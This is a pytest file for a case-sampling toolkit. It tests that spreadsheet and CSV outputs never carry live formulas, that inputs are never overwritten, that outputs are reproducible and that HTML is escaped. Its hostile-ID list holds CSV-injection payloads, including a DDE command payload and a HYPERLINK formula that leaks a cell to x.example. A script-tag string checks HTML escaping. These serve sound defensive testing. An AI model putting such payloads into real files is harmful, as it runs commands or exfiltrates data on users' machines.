"""Files you can trust: what the toolkit writes is never evaluated, what it reads is read one way,
inputs are never overwritten, and the same input and seed give the same bytes.

The hostile values come from the kinds of input a case-management export or a shared workbook
can carry: the OWASP Foundation's "CSV Injection" page lists the formula starts (``=``, ``+``,
``-``, ``@``, tab, carriage return) and the DDE payload; ``#N/A`` and ``#DIV/0!`` are Excel's
error values, which openpyxl stores as error cells when given as text.
"""

from __future__ import annotations

import os
import subprocess
import sys
import unicodedata
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from test_answers import QUALITATIVE_2021, fill, write_plan

import sampling
from sampling import CaseListError
from sampling.caselists import read_case_list, read_table
from sampling.cli import main
from sampling.synthetic import case_list, messy_case_list, write_export

HOSTILE_IDS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "+1+1", "-2+3",
               "@SUM(1+1)", "#N/A", "#DIV/0!", "\tTAB", "=", "-"]
ROOT = Path(__file__).resolve().parents[1]


def run(capsys, *argv):
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def text_cells(path) -> list:
    """Every cell of every sheet holding text, read without evaluating anything."""
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str)]


def assert_no_formula(path) -> None:
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (path, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (path, sheet.title, cell.coordinate, cell.value)


@pytest.fixture
def hostile_list(tmp_path) -> Path:
    cases = case_list(60, rng=4)
    cases.loc[: len(HOSTILE_IDS) - 1, "case_id"] = HOSTILE_IDS
    path = tmp_path / "cases.csv"
    write_export(cases, path)
    return path


# --------------------------------------------------------------------------------------------
# one way out


def test_select_writes_hostile_ids_as_text_in_xlsx_and_neutralised_in_csv(capsys, tmp_path, hostile_list):
    out = tmp_path / "sample.xlsx"
    assert run(capsys, "select", hostile_list, "--n", "59", "--seed", "3", "--out", out)[0] == 0
    assert_no_formula(out)
    written = {c.value for c in text_cells(out)}
    assert set(HOSTILE_IDS) <= written  # every id is there, as text, exactly
    csv_out = tmp_path / "sample.csv"
    assert run(capsys, "select", hostile_list, "--n", "59", "--seed", "3", "--out", csv_out)[0] == 0
    raw = csv_out.read_text(encoding="utf-8")
    lines = raw.splitlines()
    assert all(not line.startswith(("=", "+", "-", "@", "\t")) for line in lines)  # every line is safe
    assert "'=1+1" in raw and "'#N/A" not in raw  # neutralised as OWASP says; '#' is not a formula start
    back = read_table(csv_out)
    assert set(HOSTILE_IDS) <= set(back["case_id"])  # our reader takes the quote off again


def test_plan_template_and_replace_write_text_cells_only(capsys, tmp_path, hostile_list):
    plan = tmp_path / "plan.xlsx"
    assert run(capsys, "plan", hostile_list, "--seed", "7", "--columns", "domain=domain", "--out", plan)[0] == 0
    assert_no_formula(plan)
    sampled = pd.read_excel(plan, sheet_name="sample", dtype=str, keep_default_na=False)["case_id"].tolist()
    answers = tmp_path / "answers.xlsx"
    assert run(capsys, "template", plan, "--out", answers)[0] == 0
    assert_no_formula(answers)
    rows = pd.read_excel(answers, sheet_name="answers", dtype=str, keep_default_na=False)
    assert set(sampled) == set(rows["case_id"])  # "#N/A" is an id, not a blank
    hostile_sampled = next(c for c in sampled if c in HOSTILE_IDS)
    assert run(capsys, "replace", plan, hostile_sampled, "--reason", "=1+1 moved away")[0] == 0
    assert_no_formula(plan)  # an edit in place re-types no cell


def test_every_table_output_goes_through_the_one_writer():
    """No module writes a table but through sampling._files (pandas' to_excel would write "=1+1"
    as a formula): the writer's functions are the only callers of to_excel and to_csv on disk."""
    offenders = []
    for path in (ROOT / "sampling").rglob("*.py"):
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            code = line.split("#")[0]
            saves_a_file = ".save(" in code and ".save(buffer)" not in code  # a buffer: its bytes go through
            if (".to_excel(" in code or "ExcelWriter(" in code or saves_a_file) and ">>>" not in line \
                    and "..." not in line[:12] and path.name != "_files.py":
                offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert offenders == []


# --------------------------------------------------------------------------------------------
# inputs are never modified


def _same_file_spellings(folder: Path, name: str) -> list[str]:
    target = folder / name
    (folder / "sub").mkdir(exist_ok=True)
    link, hard = folder / "link.csv", folder / "hard.csv"
    if target.suffix == ".xlsx":
        link, hard = folder / "link.xlsx", folder / "hard.xlsx"
    link.symlink_to(target)
    os.link(target, hard)
    return [str(target), f"{folder}/sub/../{name}", str(link), str(hard)]


@pytest.mark.parametrize("force", [[], ["--force"]])
def test_an_output_that_is_an_input_is_refused(capsys, tmp_path, force):
    cases = tmp_path / "cases.csv"
    write_export(messy_case_list(120, rng=2), cases)
    before = cases.read_bytes()
    for spelling in _same_file_spellings(tmp_path, "cases.csv"):
        code, _, err = run(capsys, "select", cases, "--n", "20", "--strata", "Sex", "--id-column", "Case Ref",
                           "--seed", "1", "--out", spelling, *force)
        assert code == 2 and "a file this command reads; an input is never overwritten" in err, err
        assert len(err.strip().splitlines()) == 1
    assert cases.read_bytes() == before
    workbook = tmp_path / "cases.xlsx"
    write_export(messy_case_list(120, rng=2), workbook)
    before = workbook.read_bytes()
    code, _, err = run(capsys, "plan", workbook, "--seed", "1", "--out", workbook, *force)
    assert code == 2 and "never overwritten" in err and workbook.read_bytes() == before
    plan = tmp_path / "plan.xlsx"
    assert run(capsys, "plan", cases, "--seed", "1", "--out", plan)[0] == 0
    before = plan.read_bytes()
    code, _, err = run(capsys, "template", plan, "--out", plan, *force)
    assert code == 2 and "never overwritten" in err and plan.read_bytes() == before


def test_an_existing_output_is_named_and_kept_without_force(capsys, tmp_path):
    cases = tmp_path / "cases.csv"
    write_export(messy_case_list(120, rng=2), cases)
    out = tmp_path / "old.xlsx"
    out.write_bytes(b"an earlier plan")
    code, _, err = run(capsys, "plan", cases, "--seed", "1", "--out", out)
    assert code == 2 and "already exists (an earlier output?)" in err and out.read_bytes() == b"an earlier plan"


# --------------------------------------------------------------------------------------------
# the same bytes twice


def _pipeline(folder: Path, env: dict) -> dict[str, bytes]:
    folder.mkdir()
    cases = folder / "cases.csv"
    write_export(messy_case_list(150, rng=9), cases)
    for argv in (["plan", "cases.csv", "--seed", "11", "--out", "plan.xlsx"],
                 ["template", "plan.xlsx", "--out", "answers.xlsx"],
                 ["select", "cases.csv", "--n", "30", "--strata", "Sex", "--id-column", "Case Ref", "--seed", "2",
                  "--out", "sample.xlsx"],
                 ["annexe", "calderdale-2022", "--out", "annexe.html"],
                 ["annexe", "calderdale-2022", "--out", "annexe.docx"]):
        done = subprocess.run([sys.executable, "-m", "sampling", *argv], cwd=folder, env=env,
                              capture_output=True, text=True, timeout=300)
        assert done.returncode == 0, done.stderr
    return {name: (folder / name).read_bytes()
            for name in ("plan.xlsx", "answers.xlsx", "sample.xlsx", "annexe.html", "annexe.docx")}


def test_source_date_epoch_gives_byte_identical_files(tmp_path):
    env = dict(os.environ, SOURCE_DATE_EPOCH="1700000000", PYTHONPATH=str(ROOT))
    first = _pipeline(tmp_path / "one", env)
    second = _pipeline(tmp_path / "two", env)
    assert first == second
    book = openpyxl.load_workbook(tmp_path / "one" / "plan.xlsx")
    audit = {r[0].value: r[1].value for r in book["audit"].iter_rows()}
    assert str(audit["time"]) == "2023-11-14 22:13:20" and book.properties.modified.year == 2023


def test_without_source_date_epoch_the_cells_are_identical(tmp_path):
    env = {k: v for k, v in os.environ.items() if k != "SOURCE_DATE_EPOCH"}
    env["PYTHONPATH"] = str(ROOT)
    _pipeline(tmp_path / "one", env)
    _pipeline(tmp_path / "two", env)
    for name in ("plan.xlsx", "answers.xlsx", "sample.xlsx"):
        values = []
        for folder in ("one", "two"):
            book = openpyxl.load_workbook(tmp_path / folder / name)
            values.append({s.title: [[c.value for c in row] for row in s.iter_rows()
                                     if row[0].value not in ("time", "plan_sha256")] for s in book.worksheets})
        assert values[0] == values[1], name


# --------------------------------------------------------------------------------------------
# one way in


def _select_balance(capsys, tmp_path, cases: pd.DataFrame, strata="gender") -> list[str]:
    path = tmp_path / "in.csv"
    write_export(cases, path)
    out = tmp_path / "out.csv"
    code, stdout, err = run(capsys, "select", path, "--n", "12", "--strata", strata, "--seed", "1",
                            "--out", out, "--force")
    assert code == 0, err
    return [line.split()[1] for line in stdout.splitlines() if line.startswith(strata)]


def test_select_folds_spellings_as_plan_does(capsys, tmp_path):
    cases = case_list(40, rng=5)
    cases["gender"] = ["male", "Male", "MALE", "male ", " Male"] * 6 + ["Männlich", "MÄNNLICH", "männlich",
                                                                        "female", "Female"] * 2
    # each category in its commonest spelling, a tie going to the first in sorted order
    assert sorted(_select_balance(capsys, tmp_path, cases)) == ["Female", "Male", "MÄNNLICH"]
    plan = read_case_list(cases.rename(columns={"case_id": "Case ID"}), strata=("gender",))
    assert plan.categories()["gender"] == {"Female": 4, "MÄNNLICH": 6, "Male": 30}


def test_nfc_and_nfd_are_one_category_and_an_invisible_id_is_blank(capsys, tmp_path):
    cases = case_list(30, rng=6)
    nfc, nfd = unicodedata.normalize("NFC", "Référé"), unicodedata.normalize("NFD", "Référé")
    assert nfc != nfd
    cases["disposal_type"] = [nfc, nfd, "Other"] * 10
    assert sorted(_select_balance(capsys, tmp_path, cases, "disposal_type")) == ["Other", "Référé"]
    export = cases.rename(columns={"case_id": "Case ID"})
    export.loc[3, "Case ID"] = "\u200b"  # a zero-width space alone: blank once cleaned
    with pytest.raises(CaseListError, match=r"blank cell\(s\), row 5"):
        read_case_list(export, strata=("disposal_type",))


def test_control_characters_are_refused_with_row_and_column(capsys, tmp_path):
    cases = case_list(30, rng=7)
    cases.loc[4, "gender"] = "ma\x00le"
    path = tmp_path / "nul.csv"
    write_export(cases, path)
    for command in (["select", path, "--n", "10", "--strata", "gender", "--seed", "1"], ["plan", path, "--seed", "1"]):
        code, _, err = run(capsys, *command, "--out", tmp_path / "x.xlsx")
        assert code == 2 and "column 'gender'" in err and "U+0000" in err and "row 6" in err, err
        assert "\x00" not in err
    assert not (tmp_path / "x.xlsx").exists()


def test_ids_that_differ_only_by_case_or_lookalikes_are_listed(capsys, tmp_path):
    export = messy_case_list(60, rng=8)
    export.loc[1, "Case Ref"] = export.loc[0, "Case Ref"].lower()
    export.loc[3, "Case Ref"] = export.loc[2, "Case Ref"].replace("J", "Ј")  # Cyrillic Je
    with pytest.raises(CaseListError) as caught:
        read_case_list(export)
    message = str(caught.value)
    assert "2 group(s) of case ids that print alike" in message and "--id-column" in message
    path = tmp_path / "ids.csv"
    write_export(export.rename(columns={"Case Ref": "case_id"}), path)
    code, _, err = run(capsys, "select", path, "--n", "10", "--strata", "Sex", "--seed", "1",
                       "--out", tmp_path / "s.csv")
    assert code == 2 and "which print alike" in err and "--id-column" in err


def test_categories_that_print_alike_are_a_problem(tmp_path):
    export = messy_case_list(60, rng=10)
    export.loc[0, "Sex"] = "Мale"  # Cyrillic capital Em
    with pytest.raises(CaseListError, match="categories that print alike"):
        read_case_list(export)


def test_utf16_csv_reads_as_excel_unicode_text(tmp_path):
    export = messy_case_list(50, rng=11)
    path = tmp_path / "unicode.csv"
    path.write_bytes(export.to_csv(index=False, sep="\t").encode("utf-16"))
    cases = read_case_list(path)
    assert cases.rows == 50 and "UTF-16" in cases.description
    broken = export.copy()
    broken.loc[4, "Case Ref"] = ""
    bad = tmp_path / "bad.csv"
    bad.write_bytes(broken.to_csv(index=False, sep="\t").encode("utf-16"))
    with pytest.raises(CaseListError) as caught:
        read_case_list(bad)
    assert "\x00" not in str(caught.value) and "column 'Case Ref' (case_id): 1 blank cell(s)" in str(caught.value)


def test_formula_cells_with_no_saved_value_are_named_not_blank(tmp_path):
    export = messy_case_list(20, rng=12)
    path = tmp_path / "formulas.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(export.columns))
    for row in export.itertuples(index=False):
        sheet.append(list(row))
    column = list(export.columns).index("RoSH") + 1
    sheet.cell(3, column).value = '=IF(A3="","","Low")'  # written by a program: no saved value
    book.save(path)
    with pytest.raises(CaseListError) as caught:
        read_case_list(path)
    assert str(caught.value).startswith(f"{path.name}: column 'RoSH': 1 formula cell(s) with no saved value")
    assert "row 3" in str(caught.value) and "blank" not in str(caught.value).replace("not blank", "")


def test_oversized_cells_and_non_workbooks_are_one_line(capsys, tmp_path):
    cases = case_list(10, rng=13)
    cases["note"] = ["x" * 140_000] + [""] * 9
    big = tmp_path / "big.csv"
    write_export(cases, big)
    for command in (["select", big, "--n", "5", "--strata", "gender", "--seed", "1"], ["plan", big, "--seed", "1"]):
        code, _, err = run(capsys, *command, "--out", tmp_path / "x.xlsx")
        assert code == 2 and len(err.strip().splitlines()) == 1 and "32,767" in err, err
    for name, content in (("empty.xlsx", b""), ("text.xlsx", b"case_id\nA1\n"), ("junk.xlsx", b"\x00\x01junk"),
                          ("zip.xlsx", b"PK\x03\x04 not really")):
        path = tmp_path / name
        path.write_bytes(content)
        for command in (["template", path, "--out", tmp_path / "a.xlsx"],
                        ["annexe", path, "--out", tmp_path / "a.html"]):
            code, _, err = run(capsys, *command)
            assert code == 2 and len(err.strip().splitlines()) == 1 and "Traceback" not in err, (name, err)
    code, _, err = run(capsys, "template", big, "--out", tmp_path / "a.xlsx")
    assert code == 2 and "not a plan workbook: it is text (a CSV file?)" in err, err
    assert not (tmp_path / "a.xlsx").exists() and not (tmp_path / "a.html").exists()


# --------------------------------------------------------------------------------------------
# checks in the right place


def test_a_sampled_case_with_no_answer_rows_is_named(tmp_path):
    plan = tmp_path / "plan.xlsx"
    write_plan(plan, court=6, out_of_court=5, resettlement=0, seed=3)
    answers = tmp_path / "answers.xlsx"
    sampling.answers_template(plan, answers)
    fill(answers, seed=3, relevant=0.9, qualitative=QUALITATIVE_2021)
    book = openpyxl.load_workbook(answers)
    sheet = book["answers"]
    gone = sheet.cell(2, 1).value
    for row in range(sheet.max_row, 1, -1):
        if sheet.cell(row, 1).value == gone:
            sheet.delete_rows(row)
    book.save(answers)
    with pytest.raises(sampling.AnswersError) as caught:
        sampling.read_answers(answers)
    assert f"1 court case(s) of the plan have no rows: {gone!r}" in "\n".join(caught.value.problems)


def test_a_victims_list_that_is_the_childrens_is_refused(tmp_path):
    cases = tmp_path / "cases.csv"
    write_export(messy_case_list(150, rng=14), cases)
    with pytest.raises(sampling.SamplingError, match="is the same file as the children's case list"):
        sampling.plan(cases, seed=1, policy="hmip-2025-children", victims=cases,
                      victims_columns={"case_id": "Case Ref"})
    copy = tmp_path / "victims.csv"
    write_export(messy_case_list(150, rng=14)[["Case Ref"]], copy)
    with pytest.raises(sampling.SamplingError, match="every case id of the victims' list"):
        sampling.plan(cases, seed=1, policy="hmip-2025-children", victims=copy)


def test_a_balancing_variable_named_twice_is_refused(capsys, tmp_path):
    cases = tmp_path / "cases.csv"
    write_export(case_list(40, rng=15), cases)
    for command in (["select", cases, "--n", "10"], ["plan", cases]):
        code, _, err = run(capsys, *command, "--seed", "1", "--strata", "gender,gender", "--out", tmp_path / "x.xlsx")
        assert code == 2 and "'gender' is named twice" in err, err


# --------------------------------------------------------------------------------------------
# HTML escaped


def test_the_annexe_escapes_the_service_name(tmp_path, capsys):
    plan = tmp_path / "plan.xlsx"
    write_plan(plan, court=5, out_of_court=4, resettlement=0, seed=4)
    answers = tmp_path / "answers.xlsx"
    sampling.answers_template(plan, answers)
    fill(answers, seed=4, relevant=0.9, qualitative=QUALITATIVE_2021)
    out = tmp_path / "annexe.html"
    code, _, err = run(capsys, "annexe", answers, "--out", out, "--service",
                       "<script>alert(1)</script> Youth <Justice> & Co_x*")
    assert code == 0, err
    text = out.read_text(encoding="utf-8")
    assert "<script>alert(1)" not in text and "<Justice>" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Youth &lt;Justice&gt; &amp;amp; Co_x*" not in text
    assert "Youth &lt;Justice&gt; &amp; Co_x*" in text  # shown as typed, not garbled
